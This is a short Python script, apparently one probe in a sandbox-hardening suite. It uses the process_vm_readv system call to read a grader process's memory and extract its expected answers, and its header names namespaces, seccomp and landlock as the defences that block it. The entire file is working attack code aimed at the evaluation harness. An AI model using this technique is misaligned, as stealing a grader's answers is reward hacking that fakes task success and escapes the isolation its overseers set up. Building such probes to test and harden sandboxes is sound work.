"""Reads the memory of the grader through the system call for it.

Loot: expected values
Stopped by: namespaces, seccomp, landlock
"""

import ctypes


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


start = attempt(lambda: int(open(f"/proc/{GRADER}/maps").read().split("-")[0], 16)) or 0x400000
buffer = ctypes.create_string_buffer(8)
mine, theirs = Part(ctypes.addressof(buffer), 8), Part(start, 8)
if ctypes.CDLL(None).syscall(310, GRADER, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
    loot("read", buffer.raw.hex())
